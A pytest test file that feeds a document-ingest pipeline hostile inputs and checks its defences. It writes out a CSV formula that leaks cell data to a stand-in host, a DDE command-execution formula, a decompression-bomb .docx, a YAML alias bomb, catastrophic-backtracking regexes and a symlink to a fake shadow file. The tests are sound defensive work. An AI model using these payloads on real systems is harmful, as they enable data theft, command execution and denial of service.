"""Hostile input, round two (issue 19): formula injection, OUT inside the corpus, decompression and taxonomy
bombs, implausible dates, links out of the corpus, invisible characters and stray bytes, a lock on OUT and
litter from killed runs.

The end-to-end checks run the real command line in a subprocess on a corpus generated in tmp_path.
"""
from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import pipeline.io as pio
from pipeline.ingest import ingest
from pipeline.formats import extract_text
from pipeline.text import DecodeError, decode_bytes, normalise
from pipeline.io import ConfigError

from conftest import ROOT, edit_code, write

PY = ROOT / ".venv" / "bin" / "python"
PYTHON = str(PY) if PY.exists() else sys.executable
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"click me")'
EVIL_REGION = "=cmd|' /C calc'!A0"


def _env(**extra) -> dict:
    return dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=str(ROOT), **extra)


def run_pipeline(*args, timeout: float = 240) -> subprocess.CompletedProcess:
    return subprocess.run([PYTHON, "-m", "pipeline", *map(str, args)], cwd=ROOT, capture_output=True, text=True,
                          encoding="utf-8", errors="replace", timeout=timeout, env=_env())


def zh(tag: str) -> str:
    return (f"# 关于{tag}的产学研合作办法\n\n第一条 为了促进产学研合作，鼓励企业与高等学校共建联合实验室（{tag}）。\n\n"
            f"第二条 本办法自2020年1月1日起施行。编号 {tag}。\n")


def one_error_line(stderr: str) -> str:
    assert "Traceback" not in stderr, stderr
    errors = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, stderr
    assert stderr.rstrip("\n").splitlines()[-1] == errors[0]
    return errors[0]


def docx_bytes(text: str = "第一条 产学研合作。", extra: dict[str, bytes] | None = None) -> bytes:
    """A real .docx, with extra members added (deflated)."""
    import docx

    d = docx.Document()
    d.add_paragraph(text)
    buf = io.BytesIO()
    d.save(buf)
    if extra:
        with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
            for name, data in extra.items():
                z.writestr(name, data)
    return buf.getvalue()


# ------------------------------------------------------------------------------------ the hostile run

SECRET = "root:SECRET-HASH-DO-NOT-LEAK:19000:0:99999:7:::"


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    """One run (and a compare) over a corpus built to attack: formula-like titles, paths and regions, and the
    files and manifest rows below."""
    base = tmp_path_factory.mktemp("attack")
    corpus, out = base / "corpus", base / "out"
    outside = write(base / "outside" / "shadow", SECRET + "\n")
    write(corpus / "a.txt", zh("A"))
    write(corpus / "@SUM(1+1).txt", zh("AT"))
    write(corpus / "-b.txt", zh("B"))
    write(corpus / "c.txt", zh("C"))
    write(corpus / "zw.txt", zh("ZW").replace("产学研", "产\u200d学\u200d研").replace("联合实验室", "联合\u200b实验\u00ad室")
          + "tech\u2060nology trans\ufefffer\n")
    write(corpus / "nul.txt", zh("NUL").encode() + b"\x00" + "第三条 附则。\n".encode())
    # 6 MB of XML in a 10 kB file: over the 2 MB limit once inflated
    write(corpus / "bomb.docx", docx_bytes(extra={"word/bomb.xml": b"<w:p/>" * (2**20)}))
    os.symlink(outside, corpus / "shadow.txt")
    dates = ("0001-01-01", "9999-12-31")
    rows = [("a.txt", "CN", "zh", HYPERLINK, "2020-01-01"),
            ("@SUM(1+1).txt", "CN", "zh", "+1+2", "2021-05-01"),
            ("-b.txt", EVIL_REGION, "zh", "-2+3", dates[0]),
            ("c.txt", EVIL_REGION, "zh", "@evil", dates[1])]
    rows += [("zw.txt", "CN", "zh", "", "2019-01-01"), ("nul.txt", "CN", "zh", "", "2018")]
    rows += [("bomb.docx", "CN", "zh", "", "")]
    rows += [("shadow.txt", "CN", "zh", "", "")]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["path", "region", "lang", "title", "date"])
    w.writerows(rows)
    write(corpus / "manifest.csv", buf.getvalue())
    proc = run_pipeline("run", "--corpus", corpus, "--out", out, "--model", "lexicon", "--quiet", "--jobs", "1",
                        "--max-mb", "2")
    assert proc.returncode == 0, proc.stderr[-3000:]
    compared = run_pipeline("compare", "--a", EVIL_REGION, "--b", "CN", "--out", out)
    assert compared.returncode == 0, compared.stderr[-3000:]
    return corpus, out, proc


def _report(out: Path) -> pd.DataFrame:
    return pio.read_csv(out / "ingest_report.csv", dtype=str).set_index("path")


# 1. formula injection ------------------------------------------------------------------------------------

def test_every_csv_cell_that_starts_like_a_formula_is_neutralised(attack):
    _, out, _ = attack
    files = sorted(out.glob("*.csv"))
    assert any(f.name.startswith("compare_") for f in files)
    quoted = 0
    for f in files:
        rows = list(csv.reader(io.StringIO(f.read_bytes().decode("utf-8-sig"), newline="")))
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only numbers may start with - or + (and they stay numbers)
                quoted += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    assert quoted >= 10  # titles, paths, doc ids, regions, the compare header


def test_csv_keeps_values_and_numbers(attack):
    _, out, _ = attack
    raw = (out / "coverage_document.csv").read_bytes().decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://x/?leak=""&A1,""click me"")"' in raw
    compare = next(out.glob("compare_*.csv")).read_bytes().decode("utf-8-sig")
    assert compare.startswith("node,node_name,node_name_zh,'=cmd")
    docs = pio.read_csv(out / "coverage_document.csv").set_index("doc_id")
    assert docs.loc["a.txt", "title"] == HYPERLINK and docs.loc["-b.txt", "region"] == EVIL_REGION
    assert docs.loc["@SUM(1+1).txt", "title"] == "+1+2" and docs.loc["c.txt", "title"] == "@evil"
    long = pd.read_csv(out / "coverage_region_long.csv", encoding="utf-8-sig")
    assert pd.api.types.is_integer_dtype(long["documents"]) and pd.api.types.is_float_dtype(long["share"])


def test_xlsx_cells_are_text_without_a_visible_quote(attack):
    import openpyxl

    _, out, _ = attack
    wb = openpyxl.load_workbook(out / "coverage.xlsx")
    ws = wb["coverage_document"]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    cells = {row[header.index("doc_id")].value: row[header.index("title")] for row in ws.iter_rows(min_row=2)}
    assert cells["a.txt"].value == HYPERLINK
    for cell in cells.values():
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    regions = [c.value for row in wb["region_ranking"].iter_rows(min_row=2) for c in row]
    assert EVIL_REGION in regions


def test_write_csv_neutralises_text_cells_and_header_and_restores_them(tmp_path):
    df = pd.DataFrame({"=head": ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "'s", "ok", None],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10], "f": [-0.5] * 10})
    path = pio.write_csv(df, tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=head", "n", "f"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "''=x", "'s", "ok", ""]
    assert [r[1] for r in rows[1:3]] == ["-1", "2"] and rows[1][2] == "-0.5"
    assert len(rows) == 11  # a CR inside a cell does not start a row
    back = pio.read_csv(path)
    assert back.columns.tolist() == ["=head", "n", "f"]
    assert back["=head"].tolist() == ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "'s", "ok", ""]


# 2. OUT = CORPUS, OUT inside CORPUS --------------------------------------------------------------------------

@pytest.mark.parametrize("where", ["same", "inside", "link_inside"])
@pytest.mark.parametrize("command", ["run", "ingest"])
def test_out_that_is_or_lies_in_the_corpus_is_refused(tmp_path, capsys, where, command):
    from pipeline.cli import main

    corpus = tmp_path / "corpus"
    write(corpus / "CN/a.txt", zh("A"))
    write(corpus / "summary.md", "the corpus's own summary")
    before = sorted(p.relative_to(corpus) for p in corpus.rglob("*"))
    out = {"same": corpus, "inside": corpus / "out" / "deeper", "link_inside": tmp_path / "link"}[where]
    if where == "link_inside":
        os.symlink(corpus / "CN", out)
        before = sorted(p.relative_to(corpus) for p in corpus.rglob("*"))
    code = main([command, "--corpus", str(corpus), "--out", str(out), "--model", "lexicon", "--quiet", "--jobs", "1"])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2
    assert str(out) in line and "corpus" in line
    assert sorted(p.relative_to(corpus) for p in corpus.rglob("*")) == before
    assert (corpus / "summary.md").read_text() == "the corpus's own summary"


def test_folder_holding_a_previous_runs_outputs_is_not_read(tmp_path):
    write(tmp_path / "CN/a.txt", zh("A"))
    write(tmp_path / "old/run.json", "{}")
    write(tmp_path / "old/summary.md", "# Coverage summary\n\nmany words")
    write(tmp_path / "old/documents.parquet/part-00000-x.parquet", b"PAR1")
    docs, rep = ingest(tmp_path)
    got = rep.set_index("path")
    assert got.loc["old", "status"] == "skipped" and "previous run's outputs" in got.loc["old", "reason"]
    assert list(docs["doc_id"]) == ["CN/a.txt"]


# 3. decompression bombs ----------------------------------------------------------------------------------

def test_docx_expanding_past_the_limit_fails_before_it_is_inflated(monkeypatch):
    import docx

    def never(*a, **k):
        raise AssertionError("the archive was opened for reading")

    bomb = docx_bytes(extra={"word/bomb.xml": b"<w:p/>" * (2**20)})
    assert len(bomb) < 100_000
    monkeypatch.setattr(docx, "Document", never)
    monkeypatch.setattr(zipfile.ZipFile, "read", never)
    with pytest.raises(DecodeError, match=r"expands to 6\.\d MB, over the 2 MB limit \(raise it with --max-mb\)"):
        extract_text(bomb, "docx", max_bytes=2 * 2**20)


def test_docx_with_an_extreme_compression_ratio_is_a_bomb():
    bomb = docx_bytes(extra={"word/media/zeros.bin": bytes(8 * 2**20)})
    from pipeline.formats import check_archive

    with pytest.raises(DecodeError, match=r"expands \d+:1 .*decompression bomb"):
        check_archive(bomb, 64 * 2**20)
    decoded, _ = extract_text(docx_bytes("第一条 产学研。"), "docx", max_bytes=2 * 2**20)
    assert "产学研" in decoded.text  # an ordinary document still reads


def test_decompression_bomb_is_failed_in_the_report(attack):
    _, out, _ = attack
    got = _report(out).loc["bomb.docx"]
    assert got["status"] == "failed" and "expands to" in got["reason"] and "--max-mb" in got["reason"]


# 4. taxonomy bombs ---------------------------------------------------------------------------------------

def _taxonomy_with(tmp_path: Path, edit) -> Path:
    import yaml

    raw = yaml.safe_load((ROOT / "taxonomy/taxonomy.yaml").read_bytes())
    edit(raw)
    p = tmp_path / "bad_taxonomy.yaml"
    p.write_text(yaml.safe_dump(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return p


def test_yaml_alias_bomb_is_refused_before_it_expands(tmp_path):
    from pipeline.taxonomy import TaxonomyError, load_taxonomy

    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    p = tmp_path / "bomb.yaml"
    p.write_text("version: '1'\n" + "\n".join(lines) + "\nnodes:\n  - id: x\n    definition: *a9\n")
    t0 = time.perf_counter()
    with pytest.raises(TaxonomyError, match=r"bomb\.yaml line 2: YAML anchors and aliases .* not allowed"):
        load_taxonomy(p)
    assert time.perf_counter() - t0 < 5


def test_yaml_alias_is_a_one_line_error_exit_2(tmp_path, capsys):
    from pipeline.cli import main

    text = (ROOT / "taxonomy/taxonomy.yaml").read_text(encoding="utf-8")
    p = tmp_path / "aliased.yaml"
    p.write_text(text + "\nextra: &x [1]\nmore: *x\n", encoding="utf-8")
    write(tmp_path / "c/CN/a.txt", zh("A"))
    code = main(["run", "--corpus", str(tmp_path / "c"), "--out", str(tmp_path / "o"), "--taxonomy", str(p),
                 "--model", "lexicon", "--quiet"])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and str(p) in line and "aliases" in line


@pytest.mark.parametrize("pattern", [r"(a+)+\1$", r"(?<!x)(a+)+b", r"(?=a)(?:a|aa)*b", r"(?P<x>a)(?P=x)"])
def test_pattern_that_could_backtrack_without_bound_is_refused(tmp_path, pattern):
    from pipeline.taxonomy import TaxonomyError, load_taxonomy

    def edit(raw):
        node = next(n for n in raw["nodes"] if n["id"] == "model.incubator")
        node["lexicon"]["en"]["patterns"] = [pattern]

    with pytest.raises(TaxonomyError) as info:
        load_taxonomy(_taxonomy_with(tmp_path, edit))
    msg = str(info.value)
    assert "node 'model.incubator'" in msg and repr(pattern) in msg and "RE2" in msg and "\n" not in msg


def test_nested_quantifiers_run_in_linear_time():
    """(a+)+$ on Python's re takes exponential time; through compile_pattern it is RE2's (linear)."""
    code = textwrap.dedent("""
        from pipeline.taxonomy import compile_pattern
        rx = compile_pattern("(a+)+$", False)
        assert rx.search("a" * 100_000 + "!") is None
        assert [m.span() for m in compile_pattern("(a+)+$", False).finditer("xaaa")] == [(1, 4)]
    """)
    proc = subprocess.run([PYTHON, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60, env=_env())
    assert proc.returncode == 0, proc.stderr


SAMPLES = ["\u3000\u3000第一条　本条例适用于本省行政区域。", "第１２条 ｔｅｃｈ 研发中心 café R&D centre",
           "Universities shall co-build research centres; the CRADA_2 régime", "权属份额 权属。 知识产权管理部门",
           "a\nb\tc\x0bd\x1ce\u00a0f\u2028g", "٣ digits ١٢ and 12"]
PATTERNS = [r"^\s*第[一二三四五六七八九十百千零〇两0-9]+条\s*本", r"\w+", r"\W+", r"\d+", r"\D+", r"\s+", r"\S+",
            r"[\w-]+", r"[^\s]+", r"[\d\s]+", r"(?i)co-build\w*", r"CENTRE", r"r&d cent\w*", r"\u4e00-\u9fff",
            r"[\u4e00-\u9fff]{2}", r"\N{IDEOGRAPHIC SPACE}+", r"权属(?!份额)", r"(?<!不)知识产权", r"a{,2}",
            r"[^。]{0,6}条例", r"\Ag", r"g\Z", r"[\[:x]+"]


@pytest.mark.parametrize("pattern", PATTERNS)
@pytest.mark.parametrize("ignore_case", [False, True])
def test_compile_pattern_matches_like_python_re(pattern, ignore_case):
    from pipeline.taxonomy import compile_pattern

    rx = compile_pattern(pattern, ignore_case)
    ref = re.compile(pattern, re.IGNORECASE if ignore_case else 0)
    assert rx.pattern == pattern
    for text in SAMPLES:
        assert [m.span() for m in rx.finditer(text)] == [m.span() for m in ref.finditer(text)], text
        assert [m.group(0) for m in rx.finditer(text)] == ref.findall(text) or "(" in pattern
        got, want = rx.search(text), ref.search(text)
        assert (got and got.span()) == (want and want.span())


def test_compiled_patterns_pickle_and_pick_their_engine():
    from pipeline.taxonomy import compile_pattern, load_taxonomy

    rx = compile_pattern(r"\w+合作", False)
    assert "RE2" in repr(rx)
    again = pickle.loads(pickle.dumps(rx))
    assert again.pattern == rx.pattern and again.search("产学研合作").group(0) == "产学研合作"
    assert "RE2" not in repr(compile_pattern("权属(?!份额)", False))  # bounded lookaround: Python's engine
    # bounded backtracking runs on Python's engine, where RE2 would fall back to its slow simulation
    penalty = compile_pattern("违反本(?:条例|法)[^。]{0,200}?(?:罚款|处分)", False)
    assert "RE2" not in repr(penalty) and penalty.search("违反本条例第三条规定的，处一万元罚款。").span() == (0, 18)
    load_taxonomy(ROOT / "taxonomy")  # the shipped taxonomy passes


# 7. hostile dates -------------------------------------------------------------------------------------------

def test_implausible_dates_are_reported_and_ignored(attack):
    _, out, _ = attack
    docs = pd.read_parquet(out / "documents.parquet").set_index("doc_id")
    # the manifest's impossible dates are not used: the date the text states is (本办法自2020年1月1日起施行)
    for doc in ("-b.txt", "c.txt"):
        assert (docs.loc[doc, "date"], docs.loc[doc, "date_source"]) == ("2020-01-01", "text:施行")
    assert docs.loc["a.txt", "date"] == "2020-01-01"
    rep = _report(out)
    assert "manifest.csv: date '0001-01-01' is not a date from 1900 to" in rep.loc["-b.txt", "reason"]
    assert "manifest.csv: date '9999-12-31' is not a date from 1900 to" in rep.loc["c.txt", "reason"]
    by_year = pd.read_parquet(out / "coverage_by_year.parquet")
    assert by_year["year"].between(1900, 2100).all() and len(by_year) < 2000


def test_dates_are_judged_by_the_year_the_temporal_view_reads():
    import datetime

    from pipeline.dates import plausible_year

    next_year = datetime.date.today().year + 1
    for date in ("2020-01-01", "1900", f"{next_year}-12-31", "2020年5月", "", "n.d.", "nan"):
        assert plausible_year(date), date
    for date in ("0001-01-01", "9999-12-31", "1899-12-31", f"{next_year + 1}", "-999-01-01", "1e3", "inf"):
        assert not plausible_year(date), date


# 8. symbolic links, no file content in errors ------------------------------------------------------------

def test_link_to_a_file_outside_the_corpus_is_skipped_not_read(attack):
    corpus, out, _ = attack
    got = _report(out).loc["shadow.txt"]
    assert got["status"] == "skipped" and "symbolic link to outside the corpus folder" in got["reason"]
    for f in out.rglob("*"):
        if f.is_file():
            assert b"SECRET-HASH" not in f.read_bytes(), f


def test_link_inside_the_corpus_is_still_read(tmp_path):
    write(tmp_path / "c/a.txt", zh("A"))
    os.symlink("a.txt", tmp_path / "c/alias.txt")
    os.symlink(tmp_path / "c/a.txt", tmp_path / "c/absolute.txt")
    _, rep = ingest(tmp_path / "c")
    assert rep.set_index("path")["status"].to_dict() == {"a.txt": "ingested", "alias.txt": "duplicate_of",
                                                         "absolute.txt": "duplicate_of"}


def test_links_to_outside_the_corpus_are_said_not_only_written_down(tmp_path, caplog):
    """A researcher who links documents into a corpus folder (ln -s ~/downloads/law.txt CN/) made each link on
    purpose: the run said "1 skipped" and nothing more, the reason only in ingest_report.csv."""
    write(tmp_path / "elsewhere/law.txt", zh("L"))
    write(tmp_path / "elsewhere/more/b.txt", zh("M"))
    write(tmp_path / "c/CN/a.txt", zh("A"))
    os.symlink(tmp_path / "elsewhere/law.txt", tmp_path / "c/CN/law.txt")
    os.symlink(tmp_path / "elsewhere/more", tmp_path / "c/CN/more")
    with caplog.at_level("WARNING"):
        _, rep = ingest(tmp_path / "c")
    said = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert rep.set_index("path")["status"].to_dict() == {"CN/a.txt": "ingested", "CN/law.txt": "skipped",
                                                         "CN/more": "skipped"}
    line = [m for m in said if "CN/law.txt" in m]
    assert len(line) == 1 and "CN/more" in line[0] and "copy" in line[0], said


def test_manifest_linked_to_a_file_outside_is_refused_without_quoting_it(tmp_path, capsys):
    from pipeline.cli import main

    secret = write(tmp_path / "private/shadow", f"path,region,lang\n{SECRET}\n")
    write(tmp_path / "c/a.txt", zh("A"))
    os.symlink(secret, tmp_path / "c/manifest.csv")
    code = main(["ingest", "--corpus", str(tmp_path / "c"), "--out", str(tmp_path / "o"), "--quiet"])
    err = capsys.readouterr().err
    line = one_error_line(err)
    assert code == 2 and "manifest.csv" in line and "symbolic link to outside the corpus folder" in line
    assert "SECRET" not in err


def test_a_manifest_error_is_said_before_the_default_model_is_trained(tmp_path, capsys, monkeypatch):
    """On a fresh clone `make run` trains the default model first (a quarter of a minute): a broken manifest
    was said only after it."""
    from pipeline import classify
    from pipeline.cli import main

    trained = []
    monkeypatch.setattr(classify, "build_default_model", lambda *a, **k: trained.append(a))
    write(tmp_path / "c/a.txt", zh("A"))
    write(tmp_path / "c/manifest.csv", "path,area,lang\na.txt,CN,zh\n")
    code = main(["run", "--corpus", str(tmp_path / "c"), "--out", str(tmp_path / "o"), "--jobs", "1", "--quiet"])
    assert code == 2 and "lacks required column(s) region" in capsys.readouterr().err
    assert trained == []


@pytest.mark.parametrize("header", [SECRET, f"path,{SECRET},{SECRET},lang,region"])
def test_manifest_errors_do_not_quote_the_file(tmp_path, header):
    write(tmp_path / "a.txt", zh("A"))
    write(tmp_path / "manifest.csv", f"{header}\na.txt,CN,zh\n")
    with pytest.raises(ConfigError) as info:
        ingest(tmp_path)
    assert "SECRET" not in str(info.value) and "manifest.csv" in str(info.value)


def test_manifest_duplicate_unknown_columns_are_named_by_position(tmp_path):
    write(tmp_path / "a.txt", zh("A"))
    write(tmp_path / "manifest.csv", "path,region,lang,secret,secret\na.txt,CN,zh,x,y\n")
    with pytest.raises(ConfigError, match=r"duplicate column name\(s\): columns 4 and 5$"):
        ingest(tmp_path)


# 9. invisible characters, stray bytes -------------------------------------------------------------------

@pytest.mark.parametrize("hidden", ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u202e"])
def test_format_characters_inside_terms_are_stripped(hidden):
    assert normalise(f"产{hidden}学{hidden}研合作 tech{hidden}nology") == "产学研合作 technology"


def test_zero_width_characters_do_not_reach_the_tables(attack):
    _, out, _ = attack
    text = pd.read_parquet(out / "documents.parquet").set_index("doc_id").loc["zw.txt", "text"]
    assert "促进产学研合作" in text and "共建联合实验室（ZW）" in text and "technology transfer" in text
    labels = pd.read_parquet(out / "labels.parquet")
    nodes = labels.groupby("doc_id")["node"].apply(set)
    assert nodes["zw.txt"] and nodes["zw.txt"] == nodes["a.txt"]  # found as in the same text without them


def test_a_stray_nul_byte_does_not_make_text_binary():
    d = decode_bytes(zh("X").encode() + b"\x00" + "第三条 附则。".encode())
    assert "\x00" not in d.text and "第三条 附则。" in d.text and d.encoding == "utf-8"
    assert "1 stray control byte(s) (1 NUL) dropped" in d.note
    d = decode_bytes(zh("GBK").encode("gbk") * 2 + b"\x00\x01")
    assert d.encoding == "gbk" and "2 stray control byte(s)" in d.note
    with pytest.raises(DecodeError, match="binary"):
        decode_bytes(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(range(256)) * 4)


def test_nul_padding_and_a_few_control_bytes_in_a_short_text_are_dropped(tmp_path):
    """A text padded with NULs to a block size, and a short one with three stray control bytes (3%), are text;
    random bytes, an image and a zip archive named .txt are still binary."""
    import random

    padded = zh("PAD").encode() * 10 + bytes(512)
    d = decode_bytes(padded)
    assert d.text == zh("PAD") * 10 and d.encoding == "utf-8" and d.note == "512 NUL byte(s) padding the end dropped"
    short = "控制字符条例\n\n第一条\x00 支持企业与高等学校共建联合实验室和研发中心。\x07\x1f\n".encode()
    assert len(short) == 100
    d = decode_bytes(short)
    assert d.text == "控制字符条例\n\n第一条 支持企业与高等学校共建联合实验室和研发中心。\n"
    assert d.note == "3 stray control byte(s) (1 NUL) dropped"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:  # stored, not deflated: the text is there as it is
        z.writestr("a.txt", zh("ZIP") * 20)
    rng = random.Random(7)
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
           + bytes(rng.randrange(256) for _ in range(400)))
    for binary in (archive.getvalue(), png, bytes(rng.randrange(256) for _ in range(4000)), bytes(600),
                   bytes(rng.randrange(256) for _ in range(4000)) + bytes(512)):
        with pytest.raises(DecodeError, match="binary"):
            decode_bytes(binary)
    write(tmp_path / "CN/padded.txt", padded)
    write(tmp_path / "CN/short.txt", short)
    docs, rep = ingest(tmp_path)
    rep = rep.set_index("path")
    assert (rep["status"] == "ingested").all()
    assert "padding the end dropped" in rep.loc["CN/padded.txt", "reason"]
    assert "3 stray control byte(s)" in rep.loc["CN/short.txt", "reason"]


def test_stray_bytes_are_said_in_the_ingest_report(attack):
    _, out, _ = attack
    got = _report(out).loc["nul.txt"]
    assert got["status"] == "ingested" and "stray control byte(s) (1 NUL) dropped" in got["reason"]


def test_files_read_by_older_code_are_read_again(tmp_path, monkeypatch):
    """Normalisation changed: a file cached by a run of older code must not keep its old text."""
    import json

    from pipeline.cli import main

    write(tmp_path / "c/CN/a.txt", zh("A"))
    args = ["ingest", "--corpus", str(tmp_path / "c"), "--out", str(tmp_path / "o"), "--quiet"]

    def reused() -> int:
        return json.loads((tmp_path / "o/run.json").read_text())["stages"]["ingest"]["reused_files"]

    assert main(args) == 0 and main(args) == 0 and reused() == 1
    edit_code(monkeypatch, "ingest")
    assert main(args) == 0 and reused() == 0


# 11. a lock on OUT; 12. litter from killed runs ------------------------------------------------------------

# another run, as the lock protocol sees it: an exclusive flock on OUT/.pipeline.lock holding its process id
HOLD = """
import fcntl, os, sys, time
os.makedirs(sys.argv[1], exist_ok=True)
fd = os.open(os.path.join(sys.argv[1], ".pipeline.lock"), os.O_RDWR | os.O_CREAT)
fcntl.flock(fd, fcntl.LOCK_EX)
os.write(fd, f"{os.getpid()}\\n".encode())
print("locked", flush=True)
time.sleep(120)
"""


def test_second_run_into_the_same_out_is_refused_naming_the_process(tmp_path, capsys):
    from pipeline.cli import main

    write(tmp_path / "c/CN/a.txt", zh("A"))
    out = tmp_path / "o"
    holder = subprocess.Popen([PYTHON, "-c", HOLD, str(out)], cwd=ROOT, stdout=subprocess.PIPE, env=_env())
    try:
        assert holder.stdout.readline().strip() == b"locked"
        code = main(["ingest", "--corpus", str(tmp_path / "c"), "--out", str(out), "--quiet"])
        line = one_error_line(capsys.readouterr().err)
        assert code == 2 and str(out) in line and "in use" in line and f"process {holder.pid}" in line
        assert not (out / "documents.parquet").exists()
    finally:
        holder.kill()
        holder.wait()
    # the lock goes with the process, however it ends
    assert main(["ingest", "--corpus", str(tmp_path / "c"), "--out", str(out), "--quiet"]) == 0
    assert (out / "documents.parquet").exists() and (out / ".pipeline.lock").read_bytes() == b""

def test_litter_of_a_killed_run_is_removed_when_the_next_run_starts(tmp_path):
    from pipeline.cli import main

    write(tmp_path / "c/CN/a.txt", zh("A"))
    out = tmp_path / "o"
    litter = [write(out / ".documents.parquet.k1llme.tmp/part-00000-x.parquet", b"half"),
              write(out / ".coverage_region.csv.abc123.tmp", b"half"),
              write(out / "cache/.labels.parquet.def456.tmp", b"half"),
              write(out / "report_files/.doc-0123456789abcdef.html.gh789.tmp", b"half")]
    keep = [write(out / ".keep", b"not ours"), write(out / "notes.tmp", b"not hidden")]
    write(out / ".pipeline.lock", b"4242\n")  # a run takes its lock before it writes anything, and a kill leaves it
    assert main(["ingest", "--corpus", str(tmp_path / "c"), "--out", str(out), "--quiet"]) == 0
    assert not [p for p in litter if p.exists()] and not (out / ".documents.parquet.k1llme.tmp").exists()
    assert all(p.exists() for p in keep)


# 5. outputs published as a whole ---------------------------------------------------------------------------

# a disk that fills up while one file is being written: its temporary file cannot be created
_FULL_DISK = """
import errno, os, runpy, sys, tempfile
target = os.environ["FAIL_ON"]
real = tempfile.mkstemp
def mkstemp(*a, **k):
    if k.get("prefix", "").startswith("." + target + "."):
        raise OSError(errno.ENOSPC, "No space left on device")
    return real(*a, **k)
tempfile.mkstemp = mkstemp
sys.argv = ["pipeline"] + sys.argv[1:]
runpy.run_module("pipeline", run_name="__main__", alter_sys=True)
"""


# the workbook is written by a forked process into a hidden file, which is published with the rest
@pytest.mark.parametrize("fail_on,named", [("report.html", "report.html"),
                                           (".coverage.xlsx.written.tmp", "coverage.xlsx")])
def test_a_full_disk_leaves_the_previous_outputs_whole_and_names_the_file(tmp_path, fail_on, named):
    corpus, out = tmp_path / "corpus", tmp_path / "out"
    write(corpus / "CN/a.txt", zh("A"))
    args = ["run", "--corpus", corpus, "--out", out, "--model", "lexicon", "--quiet", "--jobs", "1"]
    assert run_pipeline(*args).returncode == 0
    reporting = ["coverage_region.csv", "region_ranking.csv", "gaps.parquet", "summary.md", "report.html",
                 "coverage.xlsx"]
    before = {name: (out / name).read_bytes() for name in reporting}
    vouched = json.loads((out / "run.json").read_text())["stages"]["report"]
    write(corpus / "US/b.md", "Federal laboratories shall enter into cooperative research and development "
                              "agreements with universities.\n")
    driver = write(tmp_path / "driver.py", _FULL_DISK)
    proc = subprocess.run([PYTHON, str(driver), *map(str, args)], cwd=ROOT, capture_output=True, text=True,
                          timeout=240, env=_env(FAIL_ON=fail_on))
    assert proc.returncode == 1, proc.stderr[-2000:]
    line = [x for x in proc.stderr.splitlines() if x.startswith("error:")]
    assert line and line[-1].startswith(f"error: {out / named}: ") and "No space left" in proc.stderr, line
    assert {name: (out / name).read_bytes() for name in reporting} == before  # the last run's set, whole
    assert json.loads((out / "run.json").read_text())["stages"]["report"] == vouched  # not the new inputs
    assert not [p for p in list(out.iterdir()) + list((out / "cache").iterdir()) if p.name.endswith(".tmp")]
    # the next run completes the work and the outputs are the new corpus's
    assert run_pipeline(*args).returncode == 0
    assert "US" in (out / "coverage_region.csv").read_text(encoding="utf-8-sig")
    assert "US" in (out / "report.html").read_text(encoding="utf-8")


def test_write_errors_name_the_file(tmp_path, monkeypatch):
    import errno

    import pyarrow as pa
    import pyarrow.parquet as pq

    from pipeline.io import TableWriter, write_bytes_atomic
    from pipeline.schemas import DOCUMENTS

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pio.os, "fsync", full)
    with pytest.raises(OSError) as info:
        write_bytes_atomic(tmp_path / "summary.md", b"x")
    assert info.value.filename == str(tmp_path / "summary.md") and info.value.errno == errno.ENOSPC
    monkeypatch.undo()

    def arrow_full(*a, **k):  # Arrow's I/O errors name no file
        raise pa.ArrowIOError("Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(pq, "write_table", arrow_full)
    writer = TableWriter(DOCUMENTS, tmp_path)
    with pytest.raises(OSError) as info:
        writer.write(DOCUMENTS.arrow_schema.empty_table(), "k")
    writer.abort()
    assert info.value.filename == str(tmp_path / DOCUMENTS.file) and "No space left" in str(info.value)
